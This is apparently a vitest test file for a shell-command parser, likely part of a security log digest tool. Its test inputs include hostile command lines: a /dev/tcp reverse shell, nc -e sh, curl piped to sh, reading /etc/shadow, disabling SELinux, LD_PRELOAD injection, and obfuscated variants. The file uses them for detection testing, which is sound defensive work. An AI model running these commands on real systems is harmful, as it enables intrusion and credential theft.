import { expect, test } from "vitest";
import { commandsOf } from "../../../src/digest/parsers/shell-commands.ts";

test.each([
  ["", "sh", ""],
  ["setenforce 0", "setenforce", "¦setenforce 0¦"],
  ["sh -c 'curl -s http://x | sh'", "dash", "¦sh -c¦curl -s http://x |¦sh¦"],
  ["sh -c (crontab -l; echo x) | crontab -", "sh", "¦sh -c¦crontab -l ;¦echo x |¦crontab -¦"],
  ["bash -lc a && b || c & d", "bash", "¦bash -lc¦a &&¦b ||¦c &¦d¦"],
  ["bash -c x 2>&1 | tee y", "bash", "¦bash -c¦x 2>&1 |¦tee y¦"],
  ["bash -i >& /dev/tcp/a/1 0>&1", "bash", "¦bash -i >& /dev/tcp/a/1 0>&1¦"],
  ["if true; then rm x; fi", "bash", "¦true ;¦rm x ;¦fi¦"],
  ["A=1 LD_PRELOAD=/tmp/x.so ls", "bash", "¦A=1¦LD_PRELOAD=/tmp/x.so¦ls¦"],
])("of a shell: %s", (line, program, commands) => {
  expect(commandsOf(line, program)).toBe(commands);
});

test.each([
  ["sudo -u root -- systemctl stop x", "sudo", "¦sudo -u root -- systemctl¦systemctl stop x¦"],
  ["env -i A=1 nohup nc -e sh", "env", "¦env -i A=1 nohup¦nohup nc¦nc -e sh¦"],
  ["timeout -k 5 10s id", "timeout", "¦timeout -k 5 10s id¦id¦"],
  ["xargs -n 1 rm -rf", "xargs", "¦xargs -n 1 rm¦rm -rf¦"],
  ["ssh -i k u@h systemctl stop x", "ssh", "¦ssh -i k u@h¦systemctl stop x¦"],
  ["ssh -p 22 u@h", "ssh", "¦ssh -p 22 u@h¦"],
  ["docker exec -it -u 0 web sh -c 'a; b'", "docker", "¦docker exec -it -u 0 web¦sh -c¦a ;¦b¦"],
  ["kubectl exec -n x pod -- id", "kubectl", "¦kubectl exec -n x pod --¦id¦"],
  ["find / -name x -exec /bin/sh ;", "find", "¦find / -name x -exec¦/bin/sh¦"],
  ["su - ann -c 'id; w'", "su", "¦su - ann -c¦id ;¦w¦"],
  ["perl -w /usr/sbin/adduser x", "perl", "¦perl -w /usr/sbin/adduser¦/usr/sbin/adduser x¦"],
  ["/lib64/ld-linux-x86-64.so.2 /tmp/x", "ld", "¦/lib64/ld-linux-x86-64.so.2 /tmp/x¦/tmp/x¦"],
  ["command -v x", "sh", "¦command -v x¦"],
  ["sudo -l", "sudo", "¦sudo -l¦"],
])("behind another program: %s", (line, program, commands) => {
  expect(commandsOf(line, program)).toContain(commands);
});

test.each([
  ["echo setenforce 0", "echo", "¦echo setenforce 0¦"],
  ["git commit -m a; setenforce 0 > b", "git", "¦git commit -m a; setenforce 0 b¦"],
  ["grep -r nc -e src | x", "grep", "¦grep -r nc -e src | x¦"],
  ["sh -c echo 'a; setenforce 0 > b'", "sh", "¦sh -c¦echo a; setenforce 0 b¦"],
  ['sh -c echo "a | b"', "sh", "¦sh -c¦echo a b¦"],
  ["sh -c a # setenforce 0", "sh", "¦sh -c¦a ;¦"],
  ["sh -c a\\;b", "sh", "¦sh -c¦a;b¦"],
])("no command: %s", (line, program, commands) => {
  expect(commandsOf(line, program)).toBe(commands);
});

test.each([
  ["sh -c se''tenfor\\ce 0", "¦setenforce 0¦"],
  ["bash -c {echo,YQ==}|{base64,-d}|{bash,-i}", "¦echo YQ== |¦base64 -d |¦bash -i¦"],
  ["sh -c cat$IFS/etc/shadow;id", "¦cat /etc/shadow ;¦id¦"],
  ["sh -c x=$(cat /etc/shadow | base64)", "¦cat /etc/shadow |¦base64¦"],
  ['sh -c echo "a `id` b"', "¦id¦"],
  ["sh -c diff <(cat a) b", "¦cat a¦"],
  ["sh -c a¦rm -rf", "¦a rm -rf¦"],
])("hidden: %s", (line, commands) => {
  expect(commandsOf(line, "sh")).toContain(commands);
});

test("capital letters of options are marked, names of signals are not", () => {
  expect(commandsOf("usermod -aG sudo -L eva", "usermod")).toBe("¦usermod -aG^ sudo -L^ eva¦");
  expect(commandsOf("pkill -HUP nginx", "pkill")).toBe("¦pkill -HUP nginx¦");
});

test("a program run under another name is told by its own", () => {
  expect(commandsOf("[kworker] -e sh", "nc")).toBe("¦[kworker] -e sh¦nc [kworker] -e sh¦");
  expect(commandsOf("u+s", "chmod")).toBe("¦u+s¦chmod u+s¦");
  expect(commandsOf("python3 x.py", "python3.11")).toBe("¦python3 x.py¦");
});

test("a line of nothing but shells, quotes or brackets comes to a text of bounded length", () => {
  for (const part of ["sh -c ", "$(", "`", "'", '"', "sudo -u ", "find -exec ", "{a,", "((("]) {
    const line = `sh -c ${part.repeat(40_000)}`;
    expect(commandsOf(line, "sh").length).toBeLessThan(200_000);
  }
});
